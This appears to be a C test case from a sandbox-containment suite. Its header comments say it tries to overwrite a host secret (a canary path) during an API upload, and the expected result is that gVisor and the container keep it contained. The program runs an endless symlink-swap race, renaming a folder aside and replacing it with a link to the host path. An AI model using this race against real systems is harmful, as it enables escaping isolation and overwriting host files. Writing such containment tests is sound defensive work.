// tries: Swap a folder for a link to the host's folder while the API uploads into it, to overwrite the host's secret.
// partner: uploads
// timeout: 25
// gvisor: contained
// container: contained
#include "verdict.h"
#include <sys/stat.h>

int main(void) {
    mkdir("place", 0755);
    mkdir("place/folder", 0755);
    close(open("place/ready", O_CREAT, 0644));
    for (;;) {
        rename("place/folder", "place/aside");
        symlink(getenv("CANARY"), "place/folder");
        usleep(100);
        unlink("place/folder");
        rename("place/aside", "place/folder");
        usleep(100);
    }
}
